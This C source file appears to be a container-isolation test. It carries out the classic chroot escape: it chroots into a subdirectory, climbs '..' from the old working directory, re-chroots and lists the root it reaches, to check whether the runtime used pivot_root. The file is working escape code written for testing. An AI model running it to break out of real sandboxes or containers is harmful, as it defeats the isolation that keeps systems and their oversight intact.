/* The classic chroot escape, run as root inside a container with CAP_SYS_CHROOT: chroot into
   a subdirectory while keeping the working directory outside it, walk ".." as far as the
   kernel lets, chroot there, and report what that root holds. In a container that was only
   chrooted (not pivoted) this reaches the guest's root; after pivot_root it must not.
   Prints one line per entry of the root it reached, then "DONE". */
#include <dirent.h>
#include <errno.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

int main(void) {
    if (mkdir("/escape-jail", 0700) != 0 && errno != EEXIST) {
        perror("mkdir /escape-jail");
        return 2;
    }
    if (chroot("/escape-jail") != 0) {
        perror("chroot /escape-jail");
        return 2;
    }
    /* The working directory is still the old root: outside the new one. */
    for (int i = 0; i < 256; i++) {
        if (chdir("..") != 0) {
            perror("chdir ..");
            return 2;
        }
    }
    if (chroot(".") != 0) {
        perror("chroot .");
        return 2;
    }
    DIR *dir = opendir("/");
    if (dir == NULL) {
        perror("opendir /");
        return 2;
    }
    struct dirent *entry;
    while ((entry = readdir(dir)) != NULL) {
        if (strcmp(entry->d_name, ".") != 0 && strcmp(entry->d_name, "..") != 0) printf("%s\n", entry->d_name);
    }
    closedir(dir);
    printf("DONE\n");
    return 0;
}
